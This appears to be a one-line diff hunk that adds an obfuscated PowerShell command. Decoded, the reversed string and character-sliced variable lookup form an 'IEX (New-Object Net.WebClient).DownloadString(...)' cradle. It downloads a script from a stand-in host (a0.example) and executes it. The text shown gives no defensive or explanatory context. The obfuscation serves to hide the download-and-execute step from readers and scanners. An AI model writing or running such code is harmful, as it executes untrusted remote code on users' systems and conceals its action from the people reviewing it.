@@ -1,0 +1,1 @@
+(( [reGeX]::MaTcheS(" )'txt.p/elpmaxe.0a//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI" ,'.','R'+'Igh'+'tTOLE'+'Ft' )|%{$_.VALuE} ) -jOIn'' )|&((vARiaBle '*mdR*').NamE[3,11,2]-joIN'')
